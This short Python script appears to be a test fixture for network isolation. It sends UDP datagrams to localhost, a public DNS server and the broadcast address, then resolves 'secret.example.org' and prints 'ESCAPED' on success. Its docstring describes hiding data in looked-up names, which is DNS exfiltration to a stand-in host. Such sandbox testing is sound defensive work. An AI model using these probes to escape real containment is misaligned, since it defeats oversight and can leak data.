"""Sends datagrams, and hides data in the names that it looks up."""
# %% first
import socket

with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    for address in (("127.0.0.1", int("@PORT@")), ("8.8.8.8", 53), ("255.255.255.255", int("@PORT@"))):
        try:
            s.sendto(b"x", address)
        except OSError:
            pass
try:
    print("ESCAPED:", socket.getaddrinfo("secret.example.org", 80))
except OSError:
    pass
